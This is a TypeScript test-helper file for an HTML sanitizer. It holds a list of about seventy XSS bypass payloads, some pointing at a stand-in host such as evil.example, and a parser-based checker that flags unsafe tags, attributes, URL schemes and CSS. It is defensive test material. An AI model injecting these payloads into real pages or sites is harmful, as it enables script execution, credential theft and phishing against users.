/**
 * Test helpers for sanitized HTML: a list of XSS vectors, and a checker that reads
 * sanitizer output with a real HTML parser (htmlparser2) and reports anything that
 * could run code, navigate or load things on its own.
 */
import { Parser } from 'htmlparser2';

/** Hostile snippets, each one a way some sanitizer has been bypassed. */
export const XSS_VECTORS: string[] = [
  '<script>alert(1)</script>',
  // htmlparser2 keeps <style/> open but reads what follows as markup; sanitize-html then copied it unescaped.
  '<style/>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.com/a.png" ONERROR="alert(1)">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="java\tscript:alert(1)">tab split</a>',
  '<a href="java\nscript:alert(1)">newline split</a>',
  '<a href="jav&#x09;ascript:alert(1)">entity tab</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>',
  '<a href="&#0000106avascript:alert(1)">padded entity</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href="vbscript:msgbox(1)">vbs</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">data upper</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><circle r=5></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example/steal"><input name=p><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x.class"></applet>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<div style="width: expr/**/ession(alert(1))">comment split</div>',
  '<div style="width: \\65 xpression(alert(1))">escaped</div>',
  '<div style="background:url(javascript:alert(1))">url js</div>',
  '<div style="background:url(&quot;javascript:alert(1)&quot;)">url js quoted</div>',
  '<div style="background-image: url(\'vbscript:msgbox(1)\')">url vbs</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">moz</div>',
  '<div style="behavior: url(x.htc)">behavior</div>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>@imp@import;ort url(https://evil.example/x.css);</style>',
  '<style>@\\69mport "https://evil.example/x.css";</style>',
  '<style>a{-moz-binding:url(x)} b{behavior:url(x.htc)} c{background:url(javascript:alert(1))}</style>',
  '<style>p{color:red}</style><script>alert(1)</script>',
  '<style></style><script>alert(1)</script>',
  '<style>a{}</style ><img src=x onerror=alert(1)>',
  '<style title="t">@import url(https://evil.example/x.css);</style>',
  '<style>x{}</style><style>y{content:"</style><script>alert(1)</script>"}</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)//',
  '<a href="https://example.com" onclick="alert(1)" target="_self">click</a>',
  '<table background="javascript:alert(1)"><tr><td>bg</td></tr></table>',
  '<video poster="javascript:alert(1)"><source src=x onerror=alert(1)></video>',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="//evil.example/x">protocol relative</a>',
  '<isindex action="javascript:alert(1)">',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<x onclick=alert(1)>custom</x>',
];

const ALLOWED_SCHEMES = new Set(['http', 'https', 'mailto', 'tel', 'cid']);
const SAFE_IMG_DATA = /^data:image\/(png|gif|jpeg|webp)[;,]/i;
const FORBIDDEN_ELEMENTS = new Set([
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input', 'button',
  'textarea', 'select', 'meta', 'base', 'link', 'svg', 'math', 'template', 'noscript', 'isindex',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'cite', 'action', 'formaction', 'background', 'poster', 'xlink:href', 'data', 'srcset', 'srcdoc', 'lowsrc', 'dynsrc']);

/** CSS as a browser reads it: escapes decoded, comments gone. */
function readCss(css: string): string {
  return css
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex: string) => String.fromCodePoint(Math.min(parseInt(hex, 16) || 0xfffd, 0x10ffff)))
    .replace(/\\(.)/g, '$1')
    .replace(/\/\*[\s\S]*?(\*\/|$)/g, '');
}

export function cssProblems(css: string): string[] {
  const read = readCss(css).toLowerCase();
  const found: string[] = [];
  for (const [what, re] of [
    ['expression(', /expression\s*\(/],
    ['javascript:', /javascript\s*:/],
    ['vbscript:', /vbscript\s*:/],
    ['@import', /@import/],
    ['-moz-binding', /-moz-binding/],
    ['behavior:', /behaviou?r\s*:/],
  ] as const) {
    if (re.test(read)) found.push(`CSS contains ${what}: ${css.slice(0, 120)}`);
  }
  return found;
}

/** The scheme a browser would see: it ignores leading/embedded whitespace and control characters. */
function schemeOf(url: string): string | null {
  const compact = url.replace(/[\u0000-\u0020\u007f]+/g, '');
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(compact);
  return m ? m[1]!.toLowerCase() : null;
}

/** Everything in `html` that could run code or act on its own; empty when the HTML is safe. */
export function unsafeConstructs(html: string): string[] {
  const problems: string[] = [];
  const stack: string[] = [];
  const parser = new Parser({
    onopentag(name, attribs) {
      stack.push(name);
      if (FORBIDDEN_ELEMENTS.has(name)) problems.push(`<${name}> element`);
      for (const [attr, value] of Object.entries(attribs)) {
        const a = attr.toLowerCase();
        if (a.startsWith('on')) problems.push(`${a}= on <${name}>`);
        if (URL_ATTRIBUTES.has(a)) {
          const scheme = schemeOf(value);
          const compact = value.replace(/[\u0000-\u0020\u007f]+/g, '');
          if (compact.startsWith('//')) problems.push(`protocol-relative ${a}= on <${name}>: ${value.slice(0, 80)}`);
          else if (scheme !== null && !ALLOWED_SCHEMES.has(scheme) && !(name === 'img' && a === 'src' && SAFE_IMG_DATA.test(compact))) {
            problems.push(`${a}="${value.slice(0, 80)}" on <${name}>`);
          }
        }
        if (a === 'style') problems.push(...cssProblems(value));
      }
    },
    ontext(text) {
      if (stack[stack.length - 1] === 'style') {
        problems.push(...cssProblems(text));
        if (text.includes('<')) problems.push(`'<' inside <style>: ${text.slice(0, 80)}`);
      }
    },
    onclosetag() {
      stack.pop();
    },
  }, { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true });
  parser.write(html);
  parser.end();
  return problems;
}
